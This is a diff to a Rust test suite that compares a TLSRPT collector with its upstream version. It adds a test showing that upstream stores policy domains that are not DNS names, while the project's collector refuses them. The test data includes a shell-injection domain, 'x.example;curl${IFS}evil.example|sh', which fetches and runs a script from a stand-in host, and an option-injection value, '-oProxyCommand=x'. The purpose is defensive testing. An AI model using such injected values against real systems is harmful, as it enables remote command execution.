@@ -46,24 +46,38 @@ const TEXTS: &[&str] = &[
     "single 'quotes' and /slashes/ </script>",
 ];
 
-/// Policy domains as an MTA may pass them: any case, one or two trailing
-/// dots, non-ASCII with interesting lower-case mappings. No whitespace and no
-/// `/` (the reportd strips lines and names report files after the domain).
+/// Policy domains as an MTA may pass them: any case, a trailing dot,
+/// A-labels, service labels. Both collectors count these alike; domains
+/// that are not DNS names are a deliberate difference (see
+/// [`domains_that_are_not_dns_names_are_stored_by_upstream_and_refused_by_ours`]).
 const DOMAINS: &[&str] = &[
     "Upstream.Example.",
     "upstream.example",
     "UPSTREAM.EXAMPLE",
-    "Bücher.Example.",
-    "BÜCHER.example",
-    "ÄÖÜ.Umlaut.Example",
-    "😀.Emoji.Example.",
+    "XN--BCHER-KVA.Example.",
     "xn--bcher-kva.example",
-    "two.dots.example..",
+    "xn--4ca0bs.Umlaut.Example",
     "Sub.Domain.Example.NET.",
-    "ΟΔΟΣ.Greek.Example",
-    "Greek.Example.ΟΔΟΣ.",
-    "İstanbul.Example",
+    "_smtp._tls.Example.ORG",
+    "a-b.example",
+    "xn--kxae4bafwg.greek.example",
+    "Greek.Example.xn--kxae4bafwg.",
+    "xn--stanbul-cua.example",
+    // The Kelvin sign lower-cases to an ASCII k (as in Python).
     "\u{212a}elvin.example",
+    "mx1.example.com",
+    "9.example",
+    "x.y.z.example",
+];
+
+/// Domains that are not DNS names: U-labels, a label left empty, shell and
+/// option syntax. Upstream stores them.
+const NOT_DNS_NAMES: &[&str] = &[
+    "Bücher.Example.",
+    "😀.Emoji.Example.",
+    "two.dots.example..",
+    "x.example;curl${IFS}evil.example|sh",
+    "-oProxyCommand=x",
 ];
 
 /// TLSRPT records: all valid for the reportd (`v=TLSRPTv1;rua=` with mailto:
@@ -110,11 +124,7 @@ fn random_policy(rng: &mut Rng) -> Policy {
     let policy_type = [PolicyType::Tlsa, PolicyType::Sts, PolicyType::NoPolicyFound][rng.below(3)];
     let mut p = Policy::new(policy_type);
     if policy_type != PolicyType::NoPolicyFound || rng.chance(30) {
-        p.policy_domain = Some(if rng.chance(70) {
-            rng.pick(DOMAINS).to_string()
-        } else {
-            rng.pick(TEXTS).to_string()
-        });
+        p.policy_domain = Some(rng.pick(DOMAINS).to_string());
     }
     p.policy_strings = (0..rng.below(4))
         .map(|_| rng.pick(TEXTS).to_string())
@@ -440,10 +450,9 @@ fn same_datagrams_give_the_same_counters_and_fetcher_answers_as_upstream() {
     );
     // Normalisation as upstream: the variants of one domain became one.
     assert!(ours_list.domains.contains(&"upstream.example".to_string()));
-    assert!(ours_list.domains.contains(&"bücher.example".to_string()));
     assert!(ours_list
         .domains
-        .contains(&"two.dots.example..".to_string()));
+        .contains(&"xn--bcher-kva.example".to_string()));
     assert!(ours_list.domains.len() >= 12, "{:?}", ours_list.domains);
 
     for (domain, theirs) in &theirs_details {
@@ -799,6 +808,44 @@ const GOOD: &[u8] = br#"{"dpv": "1","d": "good.example","pr": "v=TLSRPTv1;rua=ma
 /// A datagram consisting of `null` kills the upstream collectd (and loses
 /// what it had not committed yet); ours refuses it, keeps running and counts
 /// the good datagrams before and after it.
+/// A deliberate difference: a datagram whose domain is not a DNS name is
+/// stored by upstream (and then handed to fetchers, which may run behind a
+/// shell) and refused by ours, which counts the good datagrams around it.
+#[test]
+fn domains_that_are_not_dns_names_are_stored_by_upstream_and_refused_by_ours() {
+    let mut datagrams: Vec<Vec<u8>> = Vec::new();
+    for domain in NOT_DNS_NAMES {
+        let mut attempt = generated()[0].clone();
+        attempt.domain = domain.to_string();
+        datagrams.push(attempt.to_datagram());
+    }
+    let good = GOOD.to_vec();
+    let theirs = Collector::start_program(&upstream("tlsrpt-collectd"), &[], &[]);
+    let ours = Collector::start(&["--sockettimeout=1"], &[]);
+    for c in [&theirs, &ours] {
+        for d in &datagrams {
+            c.send(d);
+        }
+        c.send(&good);
+    }
+    let hostile: i64 = datagrams.iter().map(|d| policy_count(d)).sum();
+    wait_until(20, "upstream: every datagram", || {
+        try_total(&theirs.db) == Some(hostile + 1)
+    });
+    wait_until(20, "ours: the good datagram", || {
+        try_total(&ours.db) == Some(1)
+    });
+    std::thread::sleep(std::time::Duration::from_millis(1500));
+    assert_eq!(total_count(&ours.db), 1);
+    let stored = rows(&theirs.db, "SELECT DISTINCT domain FROM finalresults");
+    assert!(
+        stored
+            .iter()
+            .any(|d| d.contains("curl${ifs}evil.example|sh")),
+        "upstream stores a shell command as a domain: {stored:?}"
+    );
+}
+
 #[test]
 fn null_datagram_kills_upstream_but_not_ours() {
     let mut theirs = Collector::start_program(&upstream("tlsrpt-collectd"), &[], &[]);
